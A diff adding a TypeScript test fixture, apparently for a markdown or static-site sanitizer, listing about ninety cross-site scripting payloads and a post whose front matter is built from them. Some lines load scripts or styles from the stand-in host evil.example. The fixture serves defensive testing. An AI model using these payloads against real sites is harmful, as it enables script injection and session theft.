@@ -1,0 +1,105 @@
+/** What people write who want a reader's browser to run something. Each would call `boom`, which sets `window.__xss`. */
+export const payloads: readonly string[] = [
+  '<script>boom()</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>boom()</scr</script>ipt>',
+  '<img src=x onerror=boom()>',
+  '<img src="x" onerror="boom()" alt="a">',
+  '<img src=x:x onerror\u000b=boom()>',
+  '<img/src=x/onerror=boom()>',
+  '<img src=`x` onerror=boom()>',
+  '<img srcset="x" onerror=boom() alt="">',
+  '<body onload=boom()>',
+  '<svg onload=boom()>',
+  '<svg><script>boom()</script></svg>',
+  '<svg><animate onbegin=boom() attributeName=x dur=1s></svg>',
+  '<svg><a xlink:href="javascript:boom()"><text x="20" y="20">click</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>boom()</script></svg>#x"></use></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.boom()</script>"></iframe></foreignObject></svg>',
+  '<svg></p><style><a id="</style><img src=1 onerror=boom()>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=boom()&gt;">',
+  '<math href="javascript:boom()">click</math>',
+  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:boom()">click</maction></math>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=boom()>',
+  '<iframe src="javascript:boom()"></iframe>',
+  '<iframe srcdoc="<script>parent.boom()</script>"></iframe>',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<object data="javascript:boom()"></object>',
+  '<embed src="javascript:boom()">',
+  '<applet code="x"></applet>',
+  '<a href="javascript:boom()">click</a>',
+  '<a href="JaVaScRiPt:boom()">click</a>',
+  '<a href="&#106;avascript:boom()">click</a>',
+  '<a href="java&#x09;script:boom()">click</a>',
+  '<a href="&#1;javascript:boom()">click</a>',
+  '<a href="vbscript:boom()">click</a>',
+  '<a href="data:text/html,<script>boom()</script>">click</a>',
+  '<a href="https://example.org/" onclick="boom()">click</a>',
+  '<a href="https://example.org/" onmouseover="boom()" onfocus=boom() autofocus tabindex=0>click</a>',
+  '[click](javascript:boom())',
+  '[click](JAVASCRIPT:boom())',
+  '[click](<java\tscript:boom()>)',
+  '[click](data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=)',
+  '![alt](javascript:boom())',
+  '![alt" onerror="boom()](x.png" onerror="boom())',
+  '[click](https://example.org/ "title" onmouseover="boom()")',
+  '[x]: javascript:boom()\n\n[x]',
+  '<javascript:boom()>',
+  '<form action="javascript:boom()"><button>click</button></form>',
+  '<button formaction="javascript:boom()">click</button>',
+  '<input onfocus=boom() autofocus>',
+  '<isindex action="javascript:boom()" type=image>',
+  '<select autofocus onfocus=boom()><option>a</option></select>',
+  '<textarea autofocus onfocus=boom()>a</textarea>',
+  '<details open ontoggle=boom()><summary>a</summary></details>',
+  '<video src=x onerror=boom()></video>',
+  '<video><source src=x onerror=boom()></video>',
+  '<video poster="javascript:boom()"></video>',
+  '<audio src=x onerror=boom()></audio>',
+  '<marquee onstart=boom()>a</marquee>',
+  '<meta http-equiv="refresh" content="0;url=javascript:boom()">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<base href="https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<link rel=import href="data:text/html,<script>boom()</script>">',
+  '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/x) }</style>',
+  '<div style="background:url(https://evil.example/x)">a</div>',
+  '<div style="background:url(javascript:boom())">a</div>',
+  '<div style="width:expression(boom())">a</div>',
+  '<p id="__proto__" class="x" onclick=boom()>a</p>',
+  '<a id="cookie" name="cookie">a</a><form name="body"></form><img name="getElementById" src="x" alt="">',
+  '<template><img src=x onerror=boom()></template>',
+  '<noscript><p title="</noscript><img src=x onerror=boom()>"></noscript>',
+  '<xmp><p title="</xmp><img src=x onerror=boom()>"></xmp>',
+  '<title><img src=x onerror=boom()></title>',
+  '<!--><img src=x onerror=boom()>-->',
+  '<!-- --!><img src=x onerror=boom()> -->',
+  '<![CDATA[<img src=x onerror=boom()>]]>',
+  '<?php echo "<img src=x onerror=boom()>" ?>',
+  '<portal src="javascript:boom()"></portal>',
+  '`<img src=x onerror=boom()>`',
+  '```html\n<img src=x onerror=boom()>\n<script>boom()</script>\n```',
+  '```"><img/src=x/onerror=boom()>\na\n```',
+  '| <img src=x onerror=boom()> |\n|---|\n| <script>boom()</script> |',
+  'Note[^1].\n\n[^1]: <img src=x onerror=boom()> [click](javascript:boom())',
+  '> [!NOTE]\n> <img src=x onerror=boom()>',
+  '## <img src=x onerror=boom()> heading\n\n## two\n\n## three',
+  '&lt;img src=x onerror=boom()&gt; &#60;script&#62;boom()&#60;/script&#62;',
+];
+
+const yaml = (text: string) => JSON.stringify(text);
+
+/** A post of them, in its front matter, too. Its broken links and images only warn, as the configuration must say. */
+export const payloadPost = `---
+title: ${yaml('"><img src=x onerror=boom()><script>boom()</script>')}
+date: 2024-01-01
+description: ${yaml('</script><script>boom()</script><img src=x onerror=boom()>')}
+categories: [${yaml('<img src=x onerror=boom()>')}]
+tags: [${yaml("';boom();//")}, ${yaml('javascript:boom()')}]
+author: ${yaml('"><svg onload=boom()>')}
+image: { src: /images/mark.svg, alt: ${yaml('" onload="boom()')}, caption: ${yaml('<script>boom()</script>')} }
+slug: payloads
+---
+
+${payloads.join('\n\n')}
+`;
